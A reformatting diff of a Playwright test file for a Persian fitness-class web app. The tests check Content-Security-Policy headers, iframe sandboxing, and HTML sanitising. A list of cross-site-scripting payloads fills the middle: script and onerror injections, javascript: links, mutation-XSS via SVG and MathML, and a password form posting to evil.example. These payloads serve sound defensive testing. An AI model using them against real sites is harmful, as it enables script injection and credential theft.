@@ -4,33 +4,90 @@ import { basketOf, BUYER, expect, OWNER, PILATES, settled, start, test } from '.
 /** Collects what the policy refused; a violation is an error of ours wherever it happens. */
 async function violationsOf(page: Page): Promise<string[]> {
   const seen: string[] = [];
-  page.on('console', (message) => { if (/content security policy|trusted ?type|permissions policy/i.test(message.text())) seen.push(message.text()); });
-  page.on('pageerror', (error) => { seen.push(String(error)); });
-  await page.exposeFunction('tellViolation', (text: string) => { seen.push(text); });
+  page.on('console', (message) => {
+    if (/content security policy|trusted ?type|permissions policy/i.test(message.text()))
+      seen.push(message.text());
+  });
+  page.on('pageerror', (error) => {
+    seen.push(String(error));
+  });
+  await page.exposeFunction('tellViolation', (text: string) => {
+    seen.push(text);
+  });
   await page.addInitScript(() => {
     document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
-      void (window as unknown as { tellViolation: (text: string) => Promise<void> }).tellViolation(`${location.href}: ${violatedDirective} ${blockedURI}`);
+      void (window as unknown as { tellViolation: (text: string) => Promise<void> }).tellViolation(
+        `${location.href}: ${violatedDirective} ${blockedURI}`,
+      );
     });
   });
   return seen;
 }
 
-test('every document has the policy, and none may be framed by strangers or sniffed', async ({ request }) => {
-  for (const path of ['/', '/login/@invoices', '/2/player/5', '/nowhere', '/index.html', '/simulator/zarinpal/StartPay/x']) {
+test('every document has the policy, and none may be framed by strangers or sniffed', async ({
+  request,
+}) => {
+  for (const path of [
+    '/',
+    '/login/@invoices',
+    '/2/player/5',
+    '/nowhere',
+    '/index.html',
+    '/simulator/zarinpal/StartPay/x',
+  ]) {
     const headers = (await request.get(path)).headers();
     const policy = headers['content-security-policy'] ?? '';
-    for (const part of ["default-src 'none'", "script-src 'self';", "style-src-attr 'none'", "base-uri 'none'", "frame-ancestors 'none'", "require-trusted-types-for 'script'", 'trusted-types dompurify']) expect(policy, path).toContain(part);
-    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval|(script|connect|form-action)[^;]* (\*|https:)( |;|$)/);
-    expect(headers, path).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'strict-origin-when-cross-origin' });
+    for (const part of [
+      "default-src 'none'",
+      "script-src 'self';",
+      "style-src-attr 'none'",
+      "base-uri 'none'",
+      "frame-ancestors 'none'",
+      "require-trusted-types-for 'script'",
+      'trusted-types dompurify',
+    ])
+      expect(policy, path).toContain(part);
+    expect(policy, path).not.toMatch(
+      /unsafe-inline|unsafe-eval|(script|connect|form-action)[^;]* (\*|https:)( |;|$)/,
+    );
+    expect(headers, path).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+    });
   }
-  for (const path of ['/embed.html', '/chat.html']) expect((await request.get(path)).headers()['content-security-policy']).toMatch(/^sandbox allow-scripts;.*frame-ancestors 'self'/);
+  for (const path of ['/embed.html', '/chat.html'])
+    expect((await request.get(path)).headers()['content-security-policy']).toMatch(
+      /^sandbox allow-scripts;.*frame-ancestors 'self'/,
+    );
 });
 
 test.describe('a member', () => {
   test.use({ account: OWNER, basket: basketOf(PILATES) });
   test('no screen breaks the policy, and none throws', async ({ page }) => {
     const violations = await violationsOf(page);
-    const paths = ['/', '/login', '/register', '/profile', '/userinfo/@', '/myprops/1', '/myprops/2', '/2/lessons', '/2/player/5', '/2/player/6', '/2/player/7', '/2/player/8', '/2/player/9', '/1/files', '/2/dietform', '/1/report', '/shopping', '/invoices', '/support/chat', '/pages/Introduction', '/pages/videos/VideoGuide'];
+    const paths = [
+      '/',
+      '/login',
+      '/register',
+      '/profile',
+      '/userinfo/@',
+      '/myprops/1',
+      '/myprops/2',
+      '/2/lessons',
+      '/2/player/5',
+      '/2/player/6',
+      '/2/player/7',
+      '/2/player/8',
+      '/2/player/9',
+      '/1/files',
+      '/2/dietform',
+      '/1/report',
+      '/shopping',
+      '/invoices',
+      '/support/chat',
+      '/pages/Introduction',
+      '/pages/videos/VideoGuide',
+    ];
     for (const path of paths) {
       await page.goto(path);
       await settled(page);
@@ -40,7 +97,10 @@ test.describe('a member', () => {
     await page.getByRole('button', { name: 'انتخاب تاریخ تولد از تقویم' }).click();
     await expect(page.getByRole('dialog', { name: 'تقویم تاریخ تولد' })).toBeVisible();
     await page.goto('/');
-    await page.getByRole('article', { name: 'پیلاتس برای کمر سالم' }).getByRole('button', { name: 'بیشتر' }).click();
+    await page
+      .getByRole('article', { name: 'پیلاتس برای کمر سالم' })
+      .getByRole('button', { name: 'بیشتر' })
+      .click();
     await start(page, 'تی‌آر‌ایکس گروهی').click();
     await expect(page.getByRole('dialog', { name: 'به سبد خرید اضافه شد' })).toBeVisible();
     expect(violations).toEqual([]);
@@ -63,39 +123,104 @@ test.describe('a buyer', () => {
 
 /** Hostile HTML of a content page, and what must not be left of it. */
 const HOSTILE: [what: string, html: string][] = [
-  ['a script', '<script>window.pwned = 1</script>'], ['an event handler', '<img src="/x" onerror="window.pwned = 1">'], ['a javascript: link', '<a href="javascript:window.pwned=1">x</a>'],
-  ['a javascript: link in disguise', '<a href="  java\nscript:window.pwned=1">x</a>'], ['a data: link', '<a href="data:text/html,<script>1</script>">x</a>'], ['a vbscript: link', '<a href="vbscript:x">x</a>'],
-  ['a form to a stranger', '<form action="https://evil.example"><input type="password" name="p"><button>ورود</button></form>'], ['a frame', '<iframe src="https://evil.example"></iframe>'], ['a frame of its own', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
-  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'], ['a style that covers the screen', '<div style="position:fixed;inset:0">x</div>'], ['a style tag', '<style>body{display:none}</style>'],
-  ['ids that clobber', '<a id="root" name="userInfo">x</a><img name="location">'], ['a data: picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'], ['a base', '<base href="https://evil.example/">'], ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
-  ['SVG that mutates', '<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">'], ['MathML that mutates', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">'],
-  ['a template', '<template><img src=x onerror=window.pwned=1></template>'], ['noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">'], ['a dialog', '<dialog open>x</dialog>'],
-  ['what takes the focus', '<div tabindex="1" autofocus contenteditable popover class="shell">x</div>'], ['a protocol-relative address', '<a href="//evil.example">x</a><img src="//evil.example/x.png">'], ['a backslash address', '<a href="/\\evil.example">x</a>'], ['pictures of several sources', '<img srcset="https://evil.example/x 1x">'],
+  ['a script', '<script>window.pwned = 1</script>'],
+  ['an event handler', '<img src="/x" onerror="window.pwned = 1">'],
+  ['a javascript: link', '<a href="javascript:window.pwned=1">x</a>'],
+  ['a javascript: link in disguise', '<a href="  java\nscript:window.pwned=1">x</a>'],
+  ['a data: link', '<a href="data:text/html,<script>1</script>">x</a>'],
+  ['a vbscript: link', '<a href="vbscript:x">x</a>'],
+  [
+    'a form to a stranger',
+    '<form action="https://evil.example"><input type="password" name="p"><button>ورود</button></form>',
+  ],
+  ['a frame', '<iframe src="https://evil.example"></iframe>'],
+  ['a frame of its own', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
+  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
+  ['a style that covers the screen', '<div style="position:fixed;inset:0">x</div>'],
+  ['a style tag', '<style>body{display:none}</style>'],
+  ['ids that clobber', '<a id="root" name="userInfo">x</a><img name="location">'],
+  ['a data: picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['SVG that mutates', '<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">'],
+  [
+    'MathML that mutates',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+  ],
+  ['a template', '<template><img src=x onerror=window.pwned=1></template>'],
+  ['noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">'],
+  ['a dialog', '<dialog open>x</dialog>'],
+  [
+    'what takes the focus',
+    '<div tabindex="1" autofocus contenteditable popover class="shell">x</div>',
+  ],
+  ['a protocol-relative address', '<a href="//evil.example">x</a><img src="//evil.example/x.png">'],
+  ['a backslash address', '<a href="/\\evil.example">x</a>'],
+  ['pictures of several sources', '<img srcset="https://evil.example/x 1x">'],
 ];
 
-test('nothing of hostile HTML is left in the page, in the browser that would run it', async ({ page }) => {
+test('nothing of hostile HTML is left in the page, in the browser that would run it', async ({
+  page,
+}) => {
   const out: string[] = [];
-  page.on('request', (request) => { if (request.url().includes('evil.example')) out.push(request.url()); });
+  page.on('request', (request) => {
+    if (request.url().includes('evil.example')) out.push(request.url());
+  });
   for (const [what, html] of HOSTILE) {
-    await page.route('**/GetContentPageByKey/**', (route) => route.fulfill({ json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText: `<p>پیش از آن</p>${html}<p>پس از آن</p>` } } }), { times: 1 });
+    await page.route(
+      '**/GetContentPageByKey/**',
+      (route) =>
+        route.fulfill({
+          json: {
+            status: 200,
+            messages: [],
+            data: { id: 1, title: 'آزمون', bodyText: `<p>پیش از آن</p>${html}<p>پس از آن</p>` },
+          },
+        }),
+      { times: 1 },
+    );
     await page.goto('/pages/Introduction');
     await expect(page.getByText('پیش از آن'), what).toBeVisible();
     const left = await page.locator('#main').evaluate((main) => {
-      const body = [...main.querySelectorAll('p')].find((p) => p.textContent === 'پیش از آن')!.parentElement!;
+      const body = [...main.querySelectorAll('p')].find(
+        (p) => p.textContent === 'پیش از آن',
+      )!.parentElement!;
       return [...body.querySelectorAll('*')].flatMap((element) => [
-        ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|SVG|MATH|TEMPLATE|DIALOG|BASE|META|LINK|NOSCRIPT)$/i.test(element.tagName) ? [element.tagName] : []),
-        ...[...element.attributes].filter(({ name, value }) => /^(on|style|id$|name|class|srcset|autofocus|tabindex|content|popover|data-)/.test(name) || (/^(href|src)$/.test(name) && !/^(https?:|mailto:|tel:|\/(?![/\\])|#)/.test(value))).map(({ name, value }) => `${name}=${value}`),
+        ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|SVG|MATH|TEMPLATE|DIALOG|BASE|META|LINK|NOSCRIPT)$/i.test(
+          element.tagName,
+        )
+          ? [element.tagName]
+          : []),
+        ...[...element.attributes]
+          .filter(
+            ({ name, value }) =>
+              /^(on|style|id$|name|class|srcset|autofocus|tabindex|content|popover|data-)/.test(
+                name,
+              ) ||
+              (/^(href|src)$/.test(name) && !/^(https?:|mailto:|tel:|\/(?![/\\])|#)/.test(value)),
+          )
+          .map(({ name, value }) => `${name}=${value}`),
       ]);
     });
     expect(left, what).toEqual([]);
-    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), what).toBeUndefined();
+    expect(
+      await page.evaluate(() => (window as unknown as { pwned?: number }).pwned),
+      what,
+    ).toBeUndefined();
   }
   expect(out).toEqual([]);
 });
 
-test('links of a text open in a new tab without a way back, and pictures and lists stay; a heading never rivals the screen’s own', async ({ page }) => {
-  const bodyText = '<h1 class="x">سرتیتر</h1><ul><li>یک</li></ul><a href="https://example.org/" target="_self" rel="opener">پیوند</a><a href="tel:02100000">تلفن</a><img src="/files/demo/class-1.svg" alt="کلاس">';
-  await page.route('**/GetContentPageByKey/**', (route) => route.fulfill({ json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText } } }));
+test('links of a text open in a new tab without a way back, and pictures and lists stay; a heading never rivals the screen’s own', async ({
+  page,
+}) => {
+  const bodyText =
+    '<h1 class="x">سرتیتر</h1><ul><li>یک</li></ul><a href="https://example.org/" target="_self" rel="opener">پیوند</a><a href="tel:02100000">تلفن</a><img src="/files/demo/class-1.svg" alt="کلاس">';
+  await page.route('**/GetContentPageByKey/**', (route) =>
+    route.fulfill({
+      json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText } },
+    }),
+  );
   await page.goto('/pages/Introduction');
   const link = page.getByRole('link', { name: 'پیوند' });
   await expect(link).toHaveAttribute('target', '_blank');
@@ -107,7 +232,10 @@ test('links of a text open in a new tab without a way back, and pictures and lis
 
 test.describe('embed markup', () => {
   test.use({ account: OWNER });
-  test('runs, but reaches neither the page around it nor its storage, nor leads it away', async ({ page, baseURL }) => {
+  test('runs, but reaches neither the page around it nor its storage, nor leads it away', async ({
+    page,
+    baseURL,
+  }) => {
     const probe = `<div id="probe"></div><script>
       const tries = {
         parent: () => parent.document.title, top: () => top.localStorage.length, storage: () => localStorage.length, cookie: () => { document.cookie = 'a=1'; return document.cookie; },
@@ -115,9 +243,26 @@ test.describe('embed markup', () => {
       };
       document.getElementById('probe').textContent = Object.entries(tries).map(([name, tryIt]) => { try { const got = tryIt(); return name + ':' + (got === null ? 'null' : 'REACHED'); } catch { return name + ':refused'; } }).join(' ') + ' origin:' + self.origin;
     </script>`;
-    await page.route('**/GetLessonInfo/**', (route) => route.fulfill({ json: { status: 200, messages: [], data: { id: 6, title: 'آزمون', courseId: 2, isLiveStream: true, liveEmbedType: 2, externalVideo: probe } } }));
+    await page.route('**/GetLessonInfo/**', (route) =>
+      route.fulfill({
+        json: {
+          status: 200,
+          messages: [],
+          data: {
+            id: 6,
+            title: 'آزمون',
+            courseId: 2,
+            isLiveStream: true,
+            liveEmbedType: 2,
+            externalVideo: probe,
+          },
+        },
+      }),
+    );
     await page.goto('/2/player/6');
-    await expect(page.frameLocator('iframe[title="آزمون"]').locator('#probe')).toHaveText(/origin:null/);
+    await expect(page.frameLocator('iframe[title="آزمون"]').locator('#probe')).toHaveText(
+      /origin:null/,
+    );
     const told = await page.frameLocator('iframe[title="آزمون"]').locator('#probe').innerText();
     expect(told).not.toContain('REACHED');
     await expect(page).toHaveURL(`${baseURL}/2/player/6`);
@@ -130,17 +275,53 @@ test.describe('embed markup', () => {
       frame.src = '/embed.html';
       frame.title = 'بی‌قفس';
       document.body.append(frame);
-      frame.addEventListener('load', () => frame.contentWindow?.postMessage({ type: 'embed', markup: '<script>try { parent.pwned = 1 } catch {}</script><p id="ran">x</p>' }, '*'));
+      frame.addEventListener('load', () =>
+        frame.contentWindow?.postMessage(
+          {
+            type: 'embed',
+            markup: '<script>try { parent.pwned = 1 } catch {}</script><p id="ran">x</p>',
+          },
+          '*',
+        ),
+      );
     });
     await expect(page.frameLocator('iframe[title="بی‌قفس"]').locator('#ran')).toBeAttached();
-    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
+    expect(
+      await page.evaluate(() => (window as unknown as { pwned?: number }).pwned),
+    ).toBeUndefined();
   });
 
-  for (const [what, address] of [['a page of our own', '/profile'], ['our own origin', 'OWN/profile'], ['a script', 'javascript:parent.pwned=1'], ['plain http', 'http://evil.example/'], ['data', 'data:text/html,x'], ['a name with a password', 'https://a:b@evil.example/']] as const) {
+  for (const [what, address] of [
+    ['a page of our own', '/profile'],
+    ['our own origin', 'OWN/profile'],
+    ['a script', 'javascript:parent.pwned=1'],
+    ['plain http', 'http://evil.example/'],
+    ['data', 'data:text/html,x'],
+    ['a name with a password', 'https://a:b@evil.example/'],
+  ] as const) {
     test(`an iframe address that is ${what} is not framed`, async ({ page, baseURL }) => {
-      await page.route('**/GetLessonInfo/**', (route) => route.fulfill({ json: { status: 200, messages: [], data: { id: 6, title: 'آزمون', courseId: 2, isLiveStream: true, liveEmbedType: 1, externalVideo: address.replace('OWN', baseURL!) } } }));
+      await page.route('**/GetLessonInfo/**', (route) =>
+        route.fulfill({
+          json: {
+            status: 200,
+            messages: [],
+            data: {
+              id: 6,
+              title: 'آزمون',
+              courseId: 2,
+              isLiveStream: true,
+              liveEmbedType: 1,
+              externalVideo: address.replace('OWN', baseURL!),
+            },
+          },
+        }),
+      );
       await page.goto('/2/player/6');
-      await expect(page.getByText('فایلی برای این جلسه ثبت نشده است؛ لطفاً به مدیر یا پشتیبان ورزشی خود اطلاع دهید.')).toBeVisible();
+      await expect(
+        page.getByText(
+          'فایلی برای این جلسه ثبت نشده است؛ لطفاً به مدیر یا پشتیبان ورزشی خود اطلاع دهید.',
+        ),
+      ).toBeVisible();
       await expect(page.locator('iframe')).toHaveCount(0);
     });
   }
